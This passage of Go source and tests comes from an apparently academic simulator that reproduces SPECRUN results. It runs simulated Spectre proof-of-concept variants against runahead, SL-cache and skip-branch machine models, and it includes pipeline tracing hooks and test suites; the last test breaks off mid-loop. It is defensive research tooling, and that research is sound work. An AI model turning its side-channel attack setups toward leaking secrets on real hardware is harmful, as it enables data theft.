// RunIPCComparison reproduces Fig. 7: every workload kernel on the baseline
// and the runahead machine, reporting normalized IPC.
func RunIPCComparison(base Config) ([]IPCRow, error) {
	return RunIPCComparisonCtx(context.Background(), base, 0)
}

// RunIPCComparisonCtx is RunIPCComparison with cancellation and an explicit
// worker count (0 = GOMAXPROCS).  The 2×len(kernels) simulations are
// independent and run in parallel; row order follows workload.Kernels().
func RunIPCComparisonCtx(ctx context.Context, base Config, workers int) ([]IPCRow, error) {
	raCfg := base
	if raCfg.Runahead.Kind == runahead.KindNone {
		raCfg.Runahead.Kind = runahead.KindOriginal
	}
	noCfg := base
	noCfg.Runahead.Kind = runahead.KindNone

	kernels := workload.Kernels()
	jobs := make([]ipcJob, 0, 2*len(kernels))
	for _, k := range kernels {
		jobs = append(jobs, ipcJob{kernel: k, cfg: noCfg}, ipcJob{kernel: k, cfg: raCfg, ra: true})
	}
	stats, err := sweep.First(ctx, jobs, func(_ context.Context, j ipcJob) (cpu.Stats, error) {
		st, err := RunProgramStats(j.cfg, j.kernel.Build())
		if err != nil {
			return cpu.Stats{}, fmt.Errorf("core: %s (ra=%v): %w", j.kernel.Name, j.ra, err)
		}
		return st, nil
	}, sweep.Options{Workers: workers})
	if err != nil {
		return nil, err
	}

	rows := make([]IPCRow, 0, len(kernels))
	for i, k := range kernels {
		row := IPCRow{Name: k.Name, Description: k.Descr}
		for col, st := range stats[2*i : 2*i+2] {
			row.Cycles[col] = st.Cycles
			row.Insts = st.Committed
			row.IPC[col] = st.IPC()
			if col == 1 {
				row.Episodes = st.RunaheadEpisodes
			}
		}
		row.Speedup = row.IPC[1] / row.IPC[0]
		rows = append(rows, row)
	}
	return rows, nil
}

// MeanSpeedup returns the geometric-mean runahead speedup of a Fig. 7 run.
func MeanSpeedup(rows []IPCRow) float64 {
	if len(rows) == 0 {
		return 0
	}
	prod := 1.0
	for _, r := range rows {
		prod *= r.Speedup
	}
	return math.Pow(prod, 1.0/float64(len(rows)))
}

// AttackResult re-exports the attack outcome type.
type AttackResult = attack.Result

// RunAttack executes one PoC variant on the given machine configuration.
func RunAttack(cfg Config, p attack.Params) (AttackResult, error) {
	return attack.Run(attack.ConfigFor(p.Variant, cfg), p)
}

// attackJob pairs a machine configuration with PoC parameters; it is the
// unit every attack-style sweep below shards on.
type attackJob struct {
	cfg Config
	p   attack.Params
}

// runAttackJobs executes a batch of attack runs on the sweep engine.
func runAttackJobs(ctx context.Context, jobs []attackJob, workers int) ([]AttackResult, error) {
	return sweep.First(ctx, jobs, func(_ context.Context, j attackJob) (AttackResult, error) {
		return RunAttack(j.cfg, j.p)
	}, sweep.Options{Workers: workers})
}

// RunFig9 reproduces Fig. 9: the PHT PoC on the runahead machine with
// secret byte 86.
func RunFig9(cfg Config) (AttackResult, error) {
	return RunAttack(cfg, attack.DefaultParams())
}

// Fig11Result pairs the two machines of Fig. 11.
type Fig11Result struct {
	Runahead   AttackResult `json:"runahead"`
	NoRunahead AttackResult `json:"no_runahead"`
}

// RunFig11 reproduces Fig. 11: the nop-padded gadget (secret access beyond
// the ROB, secret byte 127) on a no-runahead and a runahead machine.
func RunFig11(cfg Config) (Fig11Result, error) {
	return RunFig11Ctx(context.Background(), cfg, 0)
}

// RunFig11Ctx is RunFig11 with cancellation and an explicit worker count;
// the two machines simulate concurrently.
func RunFig11Ctx(ctx context.Context, cfg Config, workers int) (Fig11Result, error) {
	p := attack.DefaultParams()
	p.Secret = []byte{127}
	p.NopPad = 300

	no := cfg
	no.Runahead.Kind = runahead.KindNone
	results, err := runAttackJobs(ctx, []attackJob{{cfg, p}, {no, p}}, workers)
	if err != nil {
		return Fig11Result{}, err
	}
	return Fig11Result{Runahead: results[0], NoRunahead: results[1]}, nil
}

// RunFig10 reproduces the N1/N2/N3 window measurements.
func RunFig10(cfg Config) (n1, n2, n3 attack.WindowResult, err error) {
	return attack.MeasureAllWindows(cfg)
}

// RunFig10Ctx is RunFig10 with cancellation and an explicit worker count;
// the three scenarios simulate concurrently.
func RunFig10Ctx(ctx context.Context, cfg Config, workers int) (n1, n2, n3 attack.WindowResult, err error) {
	return attack.MeasureAllWindowsCtx(ctx, cfg, workers)
}

// DefenseResult compares the attack under the vulnerable and secure machines.
type DefenseResult struct {
	Vulnerable AttackResult `json:"vulnerable"`
	Secure     AttackResult `json:"secure"`
	SkipINV    AttackResult `json:"skip_inv"`
}

// RunDefense reproduces the §6 evaluation: the Fig. 11 attack against the
// vulnerable runahead machine, the SL-cache machine and the skip-INV-branch
// restriction.
func RunDefense(cfg Config) (DefenseResult, error) {
	return RunDefenseCtx(context.Background(), cfg, 0)
}

// RunDefenseCtx is RunDefense with cancellation and an explicit worker
// count; the three machines simulate concurrently.
func RunDefenseCtx(ctx context.Context, cfg Config, workers int) (DefenseResult, error) {
	p := attack.DefaultParams()
	p.Secret = []byte{127}
	p.NopPad = 300

	sec := cfg
	sec.Secure.Enabled = true
	skip := cfg
	skip.Runahead.SkipINVBranch = true
	results, err := runAttackJobs(ctx, []attackJob{{cfg, p}, {sec, p}, {skip, p}}, workers)
	if err != nil {
		return DefenseResult{}, err
	}
	return DefenseResult{Vulnerable: results[0], Secure: results[1], SkipINV: results[2]}, nil
}

// VariantOutcome is one row of the §4.3/§4.4 applicability matrix.
type VariantOutcome struct {
	Label  string       `json:"label"`
	Result AttackResult `json:"result"`
}

// RunVariantMatrix runs the PoC across Spectre variants (§4.4) and runahead
// variants (§4.3).
func RunVariantMatrix(cfg Config) ([]VariantOutcome, error) {
	return RunVariantMatrixCtx(context.Background(), cfg, 0)
}

// RunVariantMatrixCtx is RunVariantMatrix with cancellation and an explicit
// worker count; the six PoC runs simulate concurrently.  Row order is
// fixed: the four Spectre variants on original runahead, then the two
// runahead variants under the PHT attack.
func RunVariantMatrixCtx(ctx context.Context, cfg Config, workers int) ([]VariantOutcome, error) {
	var jobs []attackJob
	var labels []string
	// Spectre variants on original runahead.
	for _, v := range []attack.Variant{attack.VariantPHT, attack.VariantBTB, attack.VariantRSBOverwrite, attack.VariantRSBFlush} {
		p := attack.DefaultParams()
		p.Variant = v
		if v == attack.VariantPHT || v == attack.VariantBTB {
			p.NopPad = 300
		}
		jobs = append(jobs, attackJob{cfg, p})
		labels = append(labels, "spectre-"+v.String())
	}
	// Runahead variants with the PHT attack.
	for _, k := range []runahead.Kind{runahead.KindPrecise, runahead.KindVector} {
		p := attack.DefaultParams()
		p.NopPad = 300
		c := cfg
		c.Runahead.Kind = k
		jobs = append(jobs, attackJob{c, p})
		labels = append(labels, "runahead-"+k.String())
	}
	results, err := runAttackJobs(ctx, jobs, workers)
	if err != nil {
		return nil, err
	}
	out := make([]VariantOutcome, len(jobs))
	for i := range jobs {
		out[i] = VariantOutcome{Label: labels[i], Result: results[i]}
	}
	return out, nil
}
