package core

import (
	"testing"

	"specrun/internal/workload"
)

// The machine-pool LRU must evict the least-recently-used configuration
// once more than machinePoolCap distinct configurations have live pools,
// and count every eviction.
func TestMachinePoolEviction(t *testing.T) {
	prog := workload.Kernels()[0].Build()
	before := MachinePoolStats()

	// Touch more distinct configurations than the LRU holds.  Vary a field
	// that changes the canonical key but keeps simulations cheap.
	n := machinePoolCap + 8
	var firstKeyCfg Config
	for i := 0; i < n; i++ {
		cfg := BaselineConfig()
		cfg.FrontQ = 16 + i
		if i == 0 {
			firstKeyCfg = cfg
		}
		if _, err := RunProgramStats(cfg, prog); err != nil {
			t.Fatalf("config %d: %v", i, err)
		}
	}

	after := MachinePoolStats()
	if after.Configs > machinePoolCap {
		t.Fatalf("live configs %d exceed the cap %d", after.Configs, machinePoolCap)
	}
	if gained := after.Evictions - before.Evictions; gained < uint64(n-machinePoolCap) {
		t.Fatalf("evictions grew by %d, want >= %d", gained, n-machinePoolCap)
	}
	if after.Capacity != machinePoolCap {
		t.Fatalf("capacity = %d, want %d", after.Capacity, machinePoolCap)
	}

	// The evicted configuration still simulates correctly on a rebuilt pool,
	// and results are identical to the pre-eviction run.
	st1, err := RunProgramStats(firstKeyCfg, prog)
	if err != nil {
		t.Fatal(err)
	}
	st2, err := RunProgramStats(firstKeyCfg, prog)
	if err != nil {
		t.Fatal(err)
	}
	if st1.Cycles != st2.Cycles || st1.Committed != st2.Committed {
		t.Fatalf("rebuilt pool diverges: %+v vs %+v", st1, st2)
	}
}

// Repeated touches of one configuration must not evict anything.
func TestMachinePoolStableUnderReuse(t *testing.T) {
	prog := workload.Kernels()[0].Build()
	cfg := BaselineConfig()
	before := MachinePoolStats().Evictions
	for i := 0; i < 5; i++ {
		if _, err := RunProgramStats(cfg, prog); err != nil {
			t.Fatal(err)
		}
	}
	if after := MachinePoolStats().Evictions; after != before {
		t.Fatalf("reusing one configuration evicted %d pools", after-before)
	}
}

// Pool reuse counters: the first job for a configuration is a miss, repeats
// on the same sequential pool are hits.  Every run is exactly one hit or
// one miss; the hit guarantee only holds without the race detector, whose
// sync.Pool randomly drops Puts.
func TestMachinePoolHitMissCounters(t *testing.T) {
	prog := workload.Kernels()[0].Build()
	cfg := BaselineConfig()
	cfg.FrontQ = 9999 // unique key: this test owns its pool

	before := MachinePoolStats()
	if _, err := RunProgramStats(cfg, prog); err != nil {
		t.Fatal(err)
	}
	mid := MachinePoolStats()
	if gained := mid.Misses - before.Misses; gained != 1 {
		t.Fatalf("first run grew misses by %d, want 1", gained)
	}
	for i := 0; i < 3; i++ {
		if _, err := RunProgramStats(cfg, prog); err != nil {
			t.Fatal(err)
		}
	}
	after := MachinePoolStats()
	hits, misses := after.Hits-mid.Hits, after.Misses-mid.Misses
	if hits+misses != 3 {
		t.Fatalf("3 repeats recorded %d hits + %d misses, want 3 total", hits, misses)
	}
	if !raceEnabled && hits < 3 {
		t.Fatalf("repeats grew hits by %d, want >= 3", hits)
	}
}
