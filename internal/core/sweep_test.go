package core

import (
	"context"
	"reflect"
	"testing"
)

// TestIPCComparisonWorkerInvariance is the sweep engine's core guarantee at
// the driver level: Fig. 7 results must be byte-identical no matter how the
// jobs are sharded.
func TestIPCComparisonWorkerInvariance(t *testing.T) {
	if testing.Short() {
		t.Skip("Fig. 7 sweep is slow")
	}
	serial, err := RunIPCComparisonCtx(context.Background(), DefaultConfig(), 1)
	if err != nil {
		t.Fatal(err)
	}
	for _, workers := range []int{2, 4, 8} {
		parallel, err := RunIPCComparisonCtx(context.Background(), DefaultConfig(), workers)
		if err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(parallel, serial) {
			t.Errorf("workers=%d: Fig. 7 rows differ from the serial run", workers)
		}
	}
}

// TestVariantMatrixWorkerInvariance holds the same guarantee for the
// §4.3/§4.4 applicability matrix, whose six jobs use four different
// attack builders and three machine configurations.
func TestVariantMatrixWorkerInvariance(t *testing.T) {
	if testing.Short() {
		t.Skip("variant matrix is slow")
	}
	serial, err := RunVariantMatrixCtx(context.Background(), DefaultConfig(), 1)
	if err != nil {
		t.Fatal(err)
	}
	parallel, err := RunVariantMatrixCtx(context.Background(), DefaultConfig(), 6)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(parallel, serial) {
		t.Error("workers=6: variant matrix differs from the serial run")
	}
}

// TestDriverCancellation checks that a pre-cancelled context stops a sweep
// before any simulation runs.
func TestDriverCancellation(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := RunIPCComparisonCtx(ctx, DefaultConfig(), 2); err == nil {
		t.Error("cancelled IPC sweep must fail")
	}
	if _, err := RunVariantMatrixCtx(ctx, DefaultConfig(), 2); err == nil {
		t.Error("cancelled variant sweep must fail")
	}
	if _, err := RunDefenseCtx(ctx, DefaultConfig(), 2); err == nil {
		t.Error("cancelled defense sweep must fail")
	}
}

// TestDriverErrorPropagation: an impossible machine configuration must
// surface as an error from the parallel driver, not a hang or a panic.
func TestDriverErrorPropagation(t *testing.T) {
	bad := DefaultConfig()
	bad.ROBSize = 0 // machine cannot commit anything: the run budget trips
	if _, err := RunIPCComparisonCtx(context.Background(), bad, 4); err == nil {
		t.Error("want error from a non-progressing machine")
	}
}
