package cpu

import (
	"fmt"
	"io"

	"specrun/internal/isa"
)

// CommitRecord describes one architecturally committed instruction.  Only
// normal-mode retirement emits records: pseudo-retired (runahead) and
// squashed (wrong-path) work never appears, so the record stream *is* the
// architectural execution and must match the in-order reference interpreter
// instruction for instruction — the golden-model contract the differential
// fuzzer (specrun/internal/difftest) enforces.
type CommitRecord struct {
	Seq  uint64     // commit order, 0-based
	PC   uint64     // address of the committed instruction
	Op   isa.Opcode // opcode
	Dest isa.Reg    // architectural destination (NoReg for stores, branches, ...)
	Val  uint64     // committed value of Dest (lane 0); 0 when Dest is NoReg
	Val2 uint64     // lane 1 for vector destinations
}

// SetCommitHook installs fn to receive one CommitRecord per committed
// instruction, in commit order (nil removes the hook).  The callback runs
// synchronously inside the commit stage; keep it cheap.
func (c *CPU) SetCommitHook(fn func(CommitRecord)) { c.commitFn = fn }

// TraceSample is one snapshot of pipeline occupancy, emitted by the tracer
// at a fixed cycle interval.  It is the raw material for utilisation plots
// (ROB occupancy over time makes runahead episodes visible as sawtooths:
// the window drains at entry via pseudo-retirement and refills after exit).
//
// IQ/LQ/SQ report the active scheduler's own occupancy bookkeeping.  On the
// cycle of a mid-issue-phase squash (the SkipINVBranch barrier) the
// event-driven scheduler's eager teardown excludes the squashed uops one
// cycle before the polling reference's lazily-compacted slices would —
// a trace-only divergence; Stats and the commit stream are identical.
type TraceSample struct {
	Cycle         uint64
	Mode          Mode
	ROB           int
	IQ            int
	LQ            int
	SQ            int
	FrontQ        int
	IntPRFUsed    int
	Committed     uint64
	PseudoRetired uint64
	Episodes      uint64
}

// SetTracer installs fn to receive a TraceSample every `every` cycles
// (every=0 removes the tracer).  The callback runs synchronously inside the
// simulation loop; keep it cheap.
func (c *CPU) SetTracer(every uint64, fn func(TraceSample)) {
	c.traceEvery = every
	c.traceFn = fn
}

func (c *CPU) traceTick() {
	if c.traceFn == nil || c.traceEvery == 0 || c.cycle%c.traceEvery != 0 {
		return
	}
	c.traceFn(TraceSample{
		Cycle:         c.cycle,
		Mode:          c.mode,
		ROB:           c.rob.len(),
		IQ:            c.iqLen(),
		LQ:            c.lqLen(),
		SQ:            c.sqLen(),
		FrontQ:        c.frontQ.len(),
		IntPRFUsed:    c.intPRFUsed,
		Committed:     c.stats.Committed,
		PseudoRetired: c.stats.PseudoRetired,
		Episodes:      c.stats.RunaheadEpisodes,
	})
}

// CSVTracer returns a tracer callback that streams samples as CSV rows to w,
// after writing a header line.
func CSVTracer(w io.Writer) func(TraceSample) {
	fmt.Fprintln(w, "cycle,mode,rob,iq,lq,sq,frontq,int_prf,committed,pseudo_retired,episodes")
	return func(s TraceSample) {
		mode := "normal"
		if s.Mode == ModeRunahead {
			mode = "runahead"
		}
		fmt.Fprintf(w, "%d,%s,%d,%d,%d,%d,%d,%d,%d,%d,%d\n",
			s.Cycle, mode, s.ROB, s.IQ, s.LQ, s.SQ, s.FrontQ, s.IntPRFUsed,
			s.Committed, s.PseudoRetired, s.Episodes)
	}
}
