package cpu

import (
	"fmt"
	"io"

	"specrun/internal/isa"
)

// CommitRecord describes one architecturally committed instruction.  Only
// normal-mode retirement emits records: pseudo-retired (runahead) and
// squashed (wrong-path) work never appears, so the record stream *is* the
// architectural execution and must match the in-order reference interpreter
// instruction for instruction — the golden-model contract the differential
// fuzzer (specrun/internal/difftest) enforces.
type CommitRecord struct {
	Seq  uint64     // commit order, 0-based
	PC   uint64     // address of the committed instruction
	Op   isa.Opcode // opcode
	Dest isa.Reg    // architectural destination (NoReg for stores, branches, ...)
	Val  uint64     // committed value of Dest (lane 0); 0 when Dest is NoReg
	Val2 uint64     // lane 1 for vector destinations
}

// SetCommitHook installs fn to receive one CommitRecord per committed
// instruction, in commit order (nil removes the hook).  The callback runs
// synchronously inside the commit stage; keep it cheap.
func (c *CPU) SetCommitHook(fn func(CommitRecord)) { c.commitFn = fn }

// String renders the execution mode ("normal" / "runahead").
func (m Mode) String() string {
	if m == ModeRunahead {
		return "runahead"
	}
	return "normal"
}

// ---- occupancy sampler (formerly "tracer"; the per-uop lifecycle tracer
// below took over the SetTracer name) ----

// Sample is one snapshot of pipeline occupancy, emitted by the sampler at a
// fixed cycle interval.  It is the raw material for utilisation plots (ROB
// occupancy over time makes runahead episodes visible as sawtooths: the
// window drains at entry via pseudo-retirement and refills after exit).
//
// IQ/LQ/SQ report the active scheduler's own occupancy bookkeeping.  On the
// cycle of a mid-issue-phase squash (the SkipINVBranch barrier) the
// event-driven scheduler's eager teardown excludes the squashed uops one
// cycle before the polling reference's lazily-compacted slices would —
// a sample-only divergence; Stats and the commit stream are identical.
type Sample struct {
	Cycle         uint64
	Mode          Mode
	ROB           int
	IQ            int
	LQ            int
	SQ            int
	FrontQ        int
	IntPRFUsed    int
	Committed     uint64
	PseudoRetired uint64
	Episodes      uint64
}

// SetSampler installs fn to receive a Sample every `every` cycles (every=0
// removes the sampler).  The callback runs synchronously inside the
// simulation loop; keep it cheap.
func (c *CPU) SetSampler(every uint64, fn func(Sample)) {
	c.sampleEvery = every
	c.sampleFn = fn
}

func (c *CPU) sampleTick() {
	if c.sampleFn == nil || c.sampleEvery == 0 || c.cycle%c.sampleEvery != 0 {
		return
	}
	c.sampleFn(Sample{
		Cycle:         c.cycle,
		Mode:          c.mode,
		ROB:           c.rob.len(),
		IQ:            c.iqLen(),
		LQ:            c.lqLen(),
		SQ:            c.sqLen(),
		FrontQ:        c.frontQ.len(),
		IntPRFUsed:    c.intPRFUsed,
		Committed:     c.stats.Committed,
		PseudoRetired: c.stats.PseudoRetired,
		Episodes:      c.stats.RunaheadEpisodes,
	})
}

// CSVSampler returns a sampler callback that streams samples as CSV rows to
// w, after writing a header line.
func CSVSampler(w io.Writer) func(Sample) {
	fmt.Fprintln(w, "cycle,mode,rob,iq,lq,sq,frontq,int_prf,committed,pseudo_retired,episodes")
	return func(s Sample) {
		fmt.Fprintf(w, "%d,%s,%d,%d,%d,%d,%d,%d,%d,%d,%d\n",
			s.Cycle, s.Mode, s.ROB, s.IQ, s.LQ, s.SQ, s.FrontQ, s.IntPRFUsed,
			s.Committed, s.PseudoRetired, s.Episodes)
	}
}

// ---- per-uop lifecycle tracer ----

// TraceStage identifies one pipeline lifecycle transition of a uop.
type TraceStage uint8

const (
	// TraceFetch: the instruction entered the fetch buffer.  The decode/
	// rename front end is modelled as a fixed delay (Config.FrontEndDepth)
	// between this event and TraceDispatch, so there is no separate decode
	// event; encoders derive the front-end residency from the two.
	TraceFetch TraceStage = iota
	// TraceDispatch: renamed and inserted into the ROB (and the issue and
	// load/store queues as required).
	TraceDispatch
	// TraceIssue: selected and sent to a functional unit or memory port.
	// Loads touch the cache hierarchy at this moment — before any squash
	// can undo it — which is exactly the SPECRUN side channel.
	TraceIssue
	// TraceReplay: operand-ready but refused issue this cycle for the
	// reason in TraceEvent.Reason; it competes again next cycle.
	TraceReplay
	// TraceComplete: the result became available (writeback).
	TraceComplete
	// TraceCommit: retired architecturally (normal mode).  These events
	// align one-for-one, in order, with the SetCommitHook stream.
	TraceCommit
	// TracePseudoRetire: retired into the runahead scratch state; the
	// result never reaches architectural state (runahead mode).
	TracePseudoRetire
	// TraceSquash: discarded.  WrongPath distinguishes misprediction
	// recovery (the uop was on a wrong path) from the wholesale pipeline
	// teardown at runahead-episode exit.
	TraceSquash
)

func (s TraceStage) String() string {
	switch s {
	case TraceFetch:
		return "fetch"
	case TraceDispatch:
		return "dispatch"
	case TraceIssue:
		return "issue"
	case TraceReplay:
		return "replay"
	case TraceComplete:
		return "complete"
	case TraceCommit:
		return "commit"
	case TracePseudoRetire:
		return "pseudo-retire"
	case TraceSquash:
		return "squash"
	default:
		return "?"
	}
}

// TraceEvent is one per-uop stage transition.  Events are emitted in cycle
// order (the phases of one cycle all carry the same Cycle value), and every
// uop's lifetime starts with TraceFetch and ends with exactly one of
// TraceCommit, TracePseudoRetire or TraceSquash.
type TraceEvent struct {
	Cycle     uint64
	Stage     TraceStage
	Seq       uint64       // dynamic instruction number (unique, never reused)
	PC        uint64       // instruction address
	Inst      isa.Inst     // the instruction itself (Inst.String disassembles)
	Mode      Mode         // machine mode at the event
	Episode   uint64       // runahead episode the event occurred in (0 = normal mode)
	Reason    ReplayReason // TraceReplay only: why issue was refused (ReplaySLGate = SL-cache gate engaged)
	WrongPath bool         // TraceSquash only: misprediction recovery, not runahead-exit teardown
}

// SetTracer installs fn to receive one TraceEvent per pipeline stage
// transition, in cycle order (nil removes it).  Like the other observation
// hooks (SetCommitHook, SetObserver, SetSampler) it is kept across Reset and
// runs synchronously inside the simulation loop.  The tracer is inert: every
// emission site is nil-checked and passes values the simulation computed
// anyway, so a traced machine executes the exact same state transitions as
// an untraced one (the tracer-neutrality tests pin this) and a machine whose
// tracer was removed again allocates nothing (the alloc tests pin that).
func (c *CPU) SetTracer(fn func(TraceEvent)) { c.traceFn = fn }

// traceEmit emits one lifecycle event; callers nil-check c.traceFn first so
// the disabled tracer costs a single branch per site.
func (c *CPU) traceEmit(st TraceStage, u *uop) {
	ev := TraceEvent{
		Cycle:   c.cycle,
		Stage:   st,
		Seq:     u.seq,
		PC:      u.pc,
		Inst:    u.inst,
		Mode:    c.mode,
		Episode: c.traceEpisode(u),
	}
	if st == TraceReplay {
		ev.Reason = u.replayWhy
	}
	c.traceFn(ev)
}

// traceSquash emits a squash event; wrongPath marks misprediction recovery
// (as opposed to the runahead-exit teardown, where the discarded work was
// the episode's pre-execution, not a wrong path).
func (c *CPU) traceSquash(u *uop, wrongPath bool) {
	c.traceFn(TraceEvent{
		Cycle:     c.cycle,
		Stage:     TraceSquash,
		Seq:       u.seq,
		PC:        u.pc,
		Inst:      u.inst,
		Mode:      c.mode,
		Episode:   c.traceEpisode(u),
		WrongPath: wrongPath,
	})
}

// traceEpisode is the runahead episode id an event belongs to.  Uops fetched
// before the episode began (u.raEpisode == 0) still execute, pseudo-retire
// and squash inside it, so the live episode counter — not the fetch-time
// stamp — is what annotates events fired in runahead mode.
func (c *CPU) traceEpisode(u *uop) uint64 {
	if c.mode == ModeRunahead {
		return c.ra.episode
	}
	return u.raEpisode
}
