package cpu

import (
	"encoding/json"
	"testing"

	"specrun/internal/mem"
	"specrun/internal/proggen"
)

// --- observer (leak tap) neutrality suite ---
//
// The observation tap exists to *watch* the simulation, never to steer it:
// a tapped machine must execute the exact same state transitions as an
// untapped one (the emissions pass values the simulation computed anyway),
// and a machine whose tap was removed again must be indistinguishable from
// one that never had it — including on the allocator (alloc_test.go covers
// the steady-state side).

func observerConfigs() map[string]Config {
	secure := DefaultConfig()
	secure.Secure.Enabled = true
	skipinv := DefaultConfig()
	skipinv.Runahead.SkipINVBranch = true
	return map[string]Config{
		"baseline": noRunaheadConfig(),
		"default":  DefaultConfig(),
		"secure":   secure,
		"skipinv":  skipinv,
	}
}

// TestObserverNeutrality runs random programs on an untapped and a tapped
// machine and requires identical statistics and commit streams, while the
// tap itself must actually see events (a silently dead tap would make the
// leak oracle vacuously pass).
func TestObserverNeutrality(t *testing.T) {
	opt := proggen.DefaultOptions()
	opt.SecretBytes = 64 // include the Spectre-victim gadget shape
	var totalObs, totalMemObs int
	for name, cfg := range observerConfigs() {
		t.Run(name, func(t *testing.T) {
			for seed := int64(1); seed <= 10; seed++ {
				prog := proggen.Generate(seed, opt)

				plain := New(cfg, prog)
				var plainRecs []CommitRecord
				plain.SetCommitHook(func(r CommitRecord) { plainRecs = append(plainRecs, r) })
				if err := plain.Run(20_000_000); err != nil {
					t.Fatalf("seed %d: untapped: %v", seed, err)
				}

				tapped := New(cfg, prog)
				var tappedRecs []CommitRecord
				tapped.SetCommitHook(func(r CommitRecord) { tappedRecs = append(tappedRecs, r) })
				nObs, nMemObs := 0, 0
				tapped.SetObserver(func(Observation) { nObs++ })
				tapped.Hier().SetObserver(func(mem.CacheEvent) { nMemObs++ })
				if err := tapped.Run(20_000_000); err != nil {
					t.Fatalf("seed %d: tapped: %v", seed, err)
				}

				ps, _ := json.Marshal(plain.Stats())
				ts, _ := json.Marshal(tapped.Stats())
				if string(ps) != string(ts) {
					t.Fatalf("seed %d: stats diverge under the tap:\n  untapped: %s\n  tapped:   %s", seed, ps, ts)
				}
				if len(plainRecs) != len(tappedRecs) {
					t.Fatalf("seed %d: commit stream length %d vs %d", seed, len(plainRecs), len(tappedRecs))
				}
				for i := range plainRecs {
					if plainRecs[i] != tappedRecs[i] {
						t.Fatalf("seed %d: commit %d diverges: %+v vs %+v", seed, i, plainRecs[i], tappedRecs[i])
					}
				}
				totalObs += nObs
				totalMemObs += nMemObs
			}
		})
	}
	if totalObs == 0 || totalMemObs == 0 {
		t.Fatalf("tap recorded no events (cpu=%d mem=%d) — the observer is dead", totalObs, totalMemObs)
	}
}

// TestObserverSurvivesReset pins the hook contract: like the commit hook,
// an installed observer stays across Reset (the leak oracle's pooled
// runners install observers once per machine and Reset between programs).
func TestObserverSurvivesReset(t *testing.T) {
	opt := proggen.DefaultOptions()
	opt.SecretBytes = 64
	progA := proggen.Generate(3, opt)
	progB := proggen.Generate(4, opt)
	c := New(DefaultConfig(), progA)
	n := 0
	c.SetObserver(func(Observation) { n++ })
	c.Hier().SetObserver(func(mem.CacheEvent) { n++ })
	if err := c.Run(20_000_000); err != nil {
		t.Fatal(err)
	}
	first := n
	if first == 0 {
		t.Fatal("no events before Reset")
	}
	c.Reset(progB)
	if err := c.Run(20_000_000); err != nil {
		t.Fatal(err)
	}
	if n == first {
		t.Fatal("observer lost across Reset")
	}
}

// TestObservationStrings keeps the event vocabulary printable (the leak
// oracle renders these in findings).
func TestObservationStrings(t *testing.T) {
	kinds := []ObsKind{ObsLoad, ObsPrefetch, ObsStore, ObsFlush, ObsSLPromote}
	seen := map[string]bool{}
	for _, k := range kinds {
		s := k.String()
		if s == "" || s == "?" || seen[s] {
			t.Fatalf("kind %d renders %q", k, s)
		}
		seen[s] = true
	}
	if ObsKind(250).String() != "?" {
		t.Fatal("unknown kind must render ?")
	}
}

// TestSkipINVBarrierTraceOnlyDivergence pins the one documented scheduler
// divergence (trace.go): on the cycle of a mid-issue-phase squash — the
// SkipINVBranch fetch barrier — the event-driven scheduler's eager counters
// exclude the squashed uops one cycle before the polling reference's
// lazily-compacted slices do.  Only the IQ/LQ/SQ fields of a Sample
// may differ, Stats and the commit stream never, and the divergence must
// actually occur on at least one seed (otherwise the documentation is
// stale).
func TestSkipINVBarrierTraceOnlyDivergence(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Runahead.SkipINVBranch = true
	opt := proggen.DefaultOptions()

	divergentSamples := 0
	for seed := int64(1); seed <= 40; seed++ {
		prog := proggen.Generate(seed, opt)
		run := func(poll bool) (*CPU, []CommitRecord, []Sample) {
			c := New(cfg, prog)
			if poll {
				c.SetPollingReference(true)
			}
			var recs []CommitRecord
			c.SetCommitHook(func(r CommitRecord) { recs = append(recs, r) })
			var samples []Sample
			c.SetSampler(1, func(s Sample) { samples = append(samples, s) })
			if err := c.Run(20_000_000); err != nil {
				t.Fatalf("seed %d (poll=%v): %v", seed, poll, err)
			}
			return c, recs, samples
		}
		ev, evRecs, evSamples := run(false)
		po, poRecs, poSamples := run(true)
		assertEquivalent(t, ev, po, evRecs, poRecs)
		if len(evSamples) != len(poSamples) {
			t.Fatalf("seed %d: sample count %d vs %d (cycle counts diverged)", seed, len(evSamples), len(poSamples))
		}
		for i := range evSamples {
			a, b := evSamples[i], poSamples[i]
			if a == b {
				continue
			}
			divergentSamples++
			// Zero the occupancy bookkeeping: everything else must agree.
			a.IQ, a.LQ, a.SQ = 0, 0, 0
			b.IQ, b.LQ, b.SQ = 0, 0, 0
			if a != b {
				t.Fatalf("seed %d cycle %d: divergence beyond IQ/LQ/SQ:\n  event: %+v\n  poll:  %+v",
					seed, evSamples[i].Cycle, evSamples[i], poSamples[i])
			}
		}
	}
	if divergentSamples == 0 {
		t.Fatal("no trace-only divergence observed across 40 seeds — trace.go's caveat may be stale")
	}
	t.Logf("trace-only IQ/LQ/SQ divergences: %d samples", divergentSamples)
}
