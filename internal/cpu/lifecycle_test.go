package cpu

import (
	"encoding/json"
	"testing"

	"specrun/internal/proggen"
)

// TestTracerNeutrality is the lifecycle-tracer mirror of
// TestObserverNeutrality: random programs on a traced and an untraced
// machine must produce identical statistics and commit streams, while the
// tracer itself must actually see events.  The tracer only reads values the
// simulation computed anyway; any divergence means an emission site grew a
// side effect.
func TestTracerNeutrality(t *testing.T) {
	opt := proggen.DefaultOptions()
	opt.SecretBytes = 64
	totalEvents := 0
	for name, cfg := range observerConfigs() {
		t.Run(name, func(t *testing.T) {
			for seed := int64(1); seed <= 10; seed++ {
				prog := proggen.Generate(seed, opt)

				plain := New(cfg, prog)
				var plainRecs []CommitRecord
				plain.SetCommitHook(func(r CommitRecord) { plainRecs = append(plainRecs, r) })
				if err := plain.Run(20_000_000); err != nil {
					t.Fatalf("seed %d: untraced: %v", seed, err)
				}

				traced := New(cfg, prog)
				var tracedRecs []CommitRecord
				traced.SetCommitHook(func(r CommitRecord) { tracedRecs = append(tracedRecs, r) })
				nEvents := 0
				traced.SetTracer(func(TraceEvent) { nEvents++ })
				if err := traced.Run(20_000_000); err != nil {
					t.Fatalf("seed %d: traced: %v", seed, err)
				}

				ps, _ := json.Marshal(plain.Stats())
				ts, _ := json.Marshal(traced.Stats())
				if string(ps) != string(ts) {
					t.Fatalf("seed %d: stats diverge under the tracer:\n  untraced: %s\n  traced:   %s", seed, ps, ts)
				}
				if len(plainRecs) != len(tracedRecs) {
					t.Fatalf("seed %d: commit stream length %d vs %d", seed, len(plainRecs), len(tracedRecs))
				}
				for i := range plainRecs {
					if plainRecs[i] != tracedRecs[i] {
